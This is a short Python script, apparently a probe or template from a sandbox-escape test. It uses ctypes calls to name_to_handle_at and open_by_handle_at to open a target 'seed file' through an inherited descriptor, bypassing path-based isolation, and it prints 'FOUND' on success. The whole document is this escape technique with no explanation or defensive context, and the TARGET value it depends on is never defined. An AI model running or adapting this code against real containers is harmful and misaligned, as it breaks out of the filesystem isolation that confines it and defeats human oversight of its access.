"""Opens a file by its handle, past all paths."""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(144)
handle[0:4] = (128).to_bytes(4, "little")
mount = ctypes.c_int()
got = libc.name_to_handle_at(-100, TARGET["seed file"].encode(), handle, ctypes.byref(mount), 0)
print(got, os.strerror(ctypes.get_errno()))
root = libc.open_by_handle_at(3, handle, os.O_RDONLY)
print("FOUND" if root >= 0 else os.strerror(ctypes.get_errno()))
